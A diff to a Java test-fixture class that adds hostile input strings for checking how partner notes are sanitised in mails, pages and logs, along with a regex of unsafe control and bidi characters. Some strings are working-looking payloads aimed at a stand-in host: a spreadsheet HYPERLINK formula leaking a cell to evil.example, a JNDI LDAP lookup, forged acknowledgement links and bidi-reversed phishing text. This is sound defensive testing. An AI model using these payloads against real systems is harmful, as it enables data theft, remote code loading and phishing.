@@ -23,6 +23,18 @@ final class HostileInputs {
 
     private static final String KSI = "ksi-casualties";
 
+    /**
+     * A note that forges the mail's own lines: a blank line, a second "Acknowledge it" line with another link,
+     * a bidi override that turns text round, and markup with a link. It must reach mails and pages as one quoted
+     * line of the partner's, with no link in it.
+     */
+    static final String FORGED_ACK_NOTE = "Figures provisional.\n\nAcknowledge it (it then stops escalating and reminding):"
+            + " http://evil.example/ack/forged\r\n\u202eknil siht kcilc\u202c <a href=\"http://evil.example/x\">details</a>";
+
+    /** The characters no text from outside may bring to a mail, page or log line: line breaks, controls, bidi. */
+    static final java.util.regex.Pattern UNSAFE_CHARACTERS =
+            java.util.regex.Pattern.compile("[\\p{Cc}\u2028\u2029\u200e\u200f\u202a-\u202e\u2066-\u2069\u061c]");
+
     /** Text a partner may legally write in a note: spreadsheet formulas, markup, quotes, scripts, bidi controls. */
     static final List<String> HOSTILE_NOTES = List.of(
             "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
@@ -36,7 +48,10 @@ final class HostileInputs {
             "caf\u00e9 \u4f60\u597d \u0645\u0631\u062d\u0628\u0627 \u202eevil\u202c \ud83d\ude48",
             "line one\nline two\r\nline three",
             "back\\slash and \\u0000 written out",
-            "${jndi:ldap://evil.example/a} {{7*7}} #{7*7}");
+            "${jndi:ldap://evil.example/a} {{7*7}} #{7*7}",
+            FORGED_ACK_NOTE,
+            "\u2066\u202eknil siht kcilc\u202c\u2069 \u200f\u200e\u202a\u202b\u2067\u2068 https://evil.example/login",
+            "see www.evil.example or mailto:chair@evil.example\u2028Dear lead,\u2029please click\u0085");
 
     /** How a bad input reaches a JMS source: as text, as bytes, or as another kind of JMS message. */
     enum JmsKind { TEXT, BYTES, MAP, OBJECT, STREAM, NO_BODY }
